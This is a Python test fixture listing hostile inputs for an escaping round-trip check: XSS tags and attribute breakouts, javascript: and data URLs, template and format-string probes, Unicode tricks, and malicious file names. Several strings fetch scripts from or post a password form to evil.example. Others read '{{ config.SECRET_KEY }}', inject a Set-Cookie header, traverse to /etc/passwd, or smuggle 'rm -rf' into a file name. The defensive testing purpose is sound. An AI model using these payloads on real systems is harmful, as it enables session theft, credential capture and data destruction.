"""What people who mean harm type into a field. Every string must come out as the letters it went in as."""

from __future__ import annotations

MARKUP = (
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>", "<b>đậm</b>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>bấm</a>", "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
    "<form action=//evil.example><input name=password></form>", "<input autofocus onfocus=alert(1)>",
    "<math><mtext></table><img src onerror=alert(1)>", "<style>body{display:none}</style>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=//evil.example>", "<embed src=//evil.example>", "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>", "<video><source onerror=alert(1)></video>", "<template><script>1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<select><option></select><script>1</script>",
    "<table background=//evil.example>", "<plaintext>", "<xmp><script>1</script></xmp>", "<!--><script>1</script>-->",
    "<![CDATA[<script>1</script>]]>", "<?php echo 1 ?>", "<%= 7*7 %>", "<<script>alert(1)//<</script>",
    "<script\x0b>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "</textarea><script>1</script>",
    "</title><script>alert(1)</script>", "</style></script><script>1</script>", "</p></div></main></body></html>x",
)  # fmt: skip
"""Tags, whole and broken, and ends of the places where text stands."""
QUOTES = (
    "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\"><script>alert(1)</script>", "'><img src=x onerror=1>",
    "` onclick=alert(1) x=`", "\" style=\"background:url(//evil.example)", "\" autofocus onfocus=alert(1) x=\"",
    "x\" formaction=\"//evil.example", "\\\"><script>1</script>", "&quot;><script>1</script>",
)  # fmt: skip
"""Ways out of an attribute."""
WORDS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>", "//evil.example", "https://evil.example", "[x](javascript:alert(1))",
    "![x](//evil.example/a.png)", "{{7*7}}", "{{ config.SECRET_KEY }}", "{% raw %}{{1}}", "${7*7}", "#{7*7}", "%(n)s",
    "%s%s%s%n", "{0.__class__}", "&lt;script&gt;", "&#60;script&#62;", "\\u003cscript\\u003e", "%3Cscript%3E",
    "＜script＞alert(1)＜/script＞", "+ADw-script+AD4-", "=HYPERLINK(\"//evil.example\")", "@import '//evil.example';",
    "expression(alert(1))", "|safe", "\u202ecod.exe", "a\u200bb<i>", "\ufeff<u>x</u>", "<\u0130mg>", "\u2028<s>x</s>",
)  # fmt: skip
"""Addresses, markdown, templates, formats, and letters that are not what they look like."""
CORPUS = (*MARKUP, *QUOTES, *WORDS)
NAMES = (
    "<img src=x onerror=alert(1)>.jpg", "\"><script>1</script>.jpg", "a\r\nSet-Cookie: a=b.jpg", "{{7*7}}.jpg",
    "../../etc/passwd.jpg", "\u202egpj.exe.jpg", "a\u200b.html.jpg", "x.jpg.php", ".htaccess", "con; rm -rf.jpg",
)  # fmt: skip
"""Names of files."""
